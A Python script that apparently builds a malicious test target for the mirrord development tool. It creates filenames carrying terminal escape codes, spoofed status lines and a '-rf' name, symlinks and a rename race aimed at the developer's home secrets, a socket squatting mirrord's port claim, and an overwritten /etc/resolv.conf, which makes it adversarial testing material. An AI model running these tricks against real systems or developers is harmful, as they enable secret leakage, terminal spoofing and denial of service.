"""A target that means harm: what it can put in the way of a session."""
import ctypes, os, socket, sys, threading

home = sys.argv[1]  # of the developer, where this machine has secrets
base = "/srv/h"
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None)


def swap(a, b):
    while True:
        libc.renameat2(-100, os.fsencode(a), -100, os.fsencode(b), RENAME_EXCHANGE)


def breathe(path):
    while True:
        for size in (0, 5000, 100, 70000):
            os.truncate(path, size)


def squat(port):
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0mirrord-claim-tcp-%d" % port)
    s.listen(5)
    while True:
        c, _ = s.accept()
        try:
            c.sendall(b"ana@laptop\x1b[2J since 14:00")
        except OSError:
            pass  # who asked did not stay; the port is held all the same
        c.close()


os.makedirs(base + "/many")
for i in range(100_000):
    os.mknod(base + "/many/%06d" % i)
os.mkdir(base + "/odd")
for name in [b"\x1b]0;owned\x07", b"a\nmirrord: all is well", b"\xff\xfe", "\u202egpj".encode(), b"-rf"]:
    with open(os.fsencode(base) + b"/odd/" + name, "wb") as f:
        f.write(name)
deep = base + "/deep"
for i in range(400):
    deep += "/d"
os.makedirs(deep)
os.symlink("end", base + "/l0")
for i in range(60):
    os.symlink("l%d" % i, base + "/l%d" % (i + 1))
open(base + "/end", "w").write("x")
os.symlink("loop", base + "/loop")
os.mkfifo(base + "/fifo")
os.mknod(base + "/null", 0o020666, os.makedev(1, 3))
os.mkdir(base + "/swap")
open(base + "/swap/secret", "w").write("target's")
os.symlink(home, base + "/swap2")
os.symlink(home + "/secret", base + "/leak")
os.symlink("../../../.." + home + "/secret", base + "/climb")
open(base + "/breathes", "w")
with open("/etc/resolv.conf", "w") as f:
    f.write("nameserver 127.0.0.1\nsearch \x1b]0;owned\x07.example evil\x1b[2J\noptions ndots:99999\n" + "# \x1b[2J\n" * 1000)
threading.Thread(target=swap, args=(base + "/swap", base + "/swap2"), daemon=True).start()
threading.Thread(target=breathe, args=(base + "/breathes",), daemon=True).start()
threading.Thread(target=squat, args=(8080,), daemon=True).start()
open("/srv/ready", "w")
threading.Event().wait()
